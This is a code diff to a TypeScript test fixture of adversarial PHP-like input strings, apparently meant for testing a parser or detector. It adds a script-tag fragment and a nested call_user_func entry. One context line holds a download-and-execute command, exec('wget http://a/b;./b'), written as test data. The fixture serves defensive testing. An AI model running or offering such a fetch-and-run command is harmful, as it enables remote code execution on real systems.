@@ -30,6 +30,8 @@ export const ADVERSARIAL: Readonly<Record<string, string>> = {
   ),
   'commands one after the other': fill("exec('wget http://a/b;./b');", '<?php '),
   'patterns for texts': withLongText('preg_replace("/[a-z ]+/","",$a);sprintf($a,1);'),
+  'scripts before a program': `${fill('<script src=//a ', '')}<?php f();`,
+  'functions called by their names': withLongText("call_user_func('call_user_func','sanitize_key',$a);"),
   'lines that may be PHP': fill('$a[$b] .= ->x\n'),
   'long texts turned over': withLongText('~$a;'),
   'long texts turned over many times': withLongText(`${'~'.repeat(55)}$a;`),
